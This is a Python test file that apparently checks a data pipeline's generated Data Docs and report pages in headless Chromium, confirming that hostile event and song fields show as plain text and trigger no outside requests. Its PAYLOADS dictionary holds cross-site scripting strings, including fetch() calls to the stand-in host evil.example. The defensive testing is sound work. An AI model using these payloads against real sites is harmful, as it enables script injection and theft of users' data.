"""Pages built from hostile source data, opened in headless Chromium as a person would.

Event and song fields come from the app's clients. Whatever they hold, the Data Docs and the
report show it as text: no script from the data runs, and opening a page sends no request off
the machine (the pages are styled from files shipped with the project, not from CDNs).
"""

from __future__ import annotations

import asyncio
import html
import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from conftest import T0, chromium, event, song_record, write_lines

from sparkify.config import state_home
from sparkify.errors import DataError
from sparkify.markdown import text as markdown_text

TITLE = "pwned"
PAYLOADS = {  # one per field, each marked so its page can be found
    "level": "<img src=x onerror=\"document.title='pwned'\">level-mark",
    "gender": "\"><script>document.title='pwned'</script>gender-mark",
    "location": "</script><script>fetch('http://evil.example/location')</script>location-mark",
    "firstName": "<svg onload=\"document.title='pwned'\">first-mark",
    "lastName": "' onmouseover='document.title=`pwned`' x='last-mark",
    "userAgent": "javascript:fetch('http://evil.example/ua')//Windows ua-mark",
    "song": "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>song-mark",
    "artist": "<a href=\"javascript:fetch('http://evil.example/a')\">artist-mark</a>",
}
LOCAL_SCHEMES = {"file", "data", "about", "chrome", "blob"}
LOCAL_HOSTS = {"localhost", "127.0.0.1", "[::1]", "::1"}


def hostile_source(root: Path) -> None:
    """A published day whose text fields are payloads, and a matching song (top songs shows
    its title and artist); gender breaks a warning, so its unexpected values are rendered."""
    fields = {k: v for k, v in PAYLOADS.items() if k != "level"}
    write_lines(
        root,
        "log_data/2018/11/2018-11-01-events.json",
        [event(ts=T0 + n, itemInSession=n, **fields) for n in range(3)],
    )
    write_lines(
        root,
        "song_data/A/A/A/TRXSS.json",
        [
            song_record(
                title=PAYLOADS["song"],
                artist_name=PAYLOADS["artist"],
                artist_location=PAYLOADS["location"],
            )
        ],
    )


def open_in_chromium(page: Path, work: Path) -> tuple[str, list[str]]:
    """The DOM once the page's scripts ran, and every URL the page requested."""
    net_log = work / f"{page.stem}-net.json"
    browser = subprocess.run(
        chromium(
            work / "profile",
            # a request off the machine fails, but is logged
            "--host-resolver-rules=MAP * ~NOTFOUND",
            f"--log-net-log={net_log}",
            "--virtual-time-budget=3000",
            "--dump-dom",
            page.as_uri(),
        ),
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "HOME": str(work)},
    )
    assert browser.returncode == 0, browser.stderr[-2000:]
    return browser.stdout, page_requests(json.loads(net_log.read_text()))


def page_requests(net_log: dict[str, Any]) -> list[str]:
    """The URLs of the requests a document made; the browser's own (update checks, sign-in),
    which it starts whatever the page, have no initiating origin."""
    start = net_log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    assert net_log["events"], "the net log recorded nothing"
    starts = [event.get("params", {}) for event in net_log["events"] if event["type"] == start]
    return [job["url"] for job in starts if job.get("initiator") not in (None, "not an origin")]


def off_the_machine(urls: list[str]) -> list[str]:
    far = []
    for url in urls:
        parts = urlsplit(url)
        if parts.scheme in LOCAL_SCHEMES:
            continue
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname in LOCAL_HOSTS:
            continue
        far.append(url)
    return sorted(set(far))


def assert_safe(page: Path, work: Path, fields: list[str]) -> None:
    dom, urls = open_in_chromium(page, work)
    title = re.search(r"<title>(.*?)</title>", dom, re.S)
    assert title and TITLE not in title.group(1), f"{page.name}: a payload ran"
    assert off_the_machine(urls) == [], f"{page.name} sent requests off the machine"
    for field in fields:  # shown, as text: the DOM serialises a text node's < > & escaped
        assert html.escape(PAYLOADS[field], quote=False) in dom, f"{page.name}: {field}"
    assert not re.search(
        r"<(script|img|svg|iframe)[^>]*(onerror|onload|document\.title|fetch)", dom
    ), f"{page.name}: a payload became an element"


def docs_page(docs: Path, suite: str, mark: str) -> Path:
    """The newest validation page of `suite` that shows `mark`."""
    pages = [p for p in (docs / "validations" / suite).rglob("*.html") if mark in p.read_text()]
    assert pages, f"no {suite} validation page shows {mark}"
    return max(pages, key=lambda p: p.stat().st_mtime)


def latest_report_markdown() -> str:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey

    async def read() -> str:
        async with get_client() as client:
            found = await client.read_artifacts(
                artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=["sparkify-report"])),
                limit=1,
                sort="CREATED_DESC",
            )
            return str(found[0].data)

    return asyncio.run(read())


def test_hostile_fields_show_as_text_and_pages_stay_on_the_machine(
    tmp_path: Path, run_load: Any
) -> None:
    source = tmp_path / "source"
    hostile_source(source)
    summary = run_load(source)
    markdown = latest_report_markdown()
    assert not re.search(r"<(iframe|a|script|img|svg)\b", markdown), markdown
    assert markdown_text(PAYLOADS["song"]) in markdown  # shown, as text
    assert markdown_text(PAYLOADS["artist"]) in markdown
    write_lines(
        source,
        "log_data/2018/11/2018-11-02-events.json",
        [event(ts=T0 + 9, userId="9", level=PAYLOADS["level"])],
    )
    with pytest.raises(DataError, match="level"):
        run_load(source)
    docs = state_home() / "gx" / "uncommitted" / "data_docs" / "local_site"
    work = tmp_path / "browser"
    work.mkdir()
    assert_safe(docs / "index.html", work, [])
    assert_safe(docs_page(docs, "users", "gender-mark"), work, ["gender"])  # the first load's
    assert_safe(docs_page(docs, "users", "level-mark"), work, ["level"])
    assert_safe(docs_page(docs, "songplays", "level-mark"), work, ["level"])
    assert_safe(Path(summary.report), work, ["location", "firstName", "lastName", "song", "artist"])
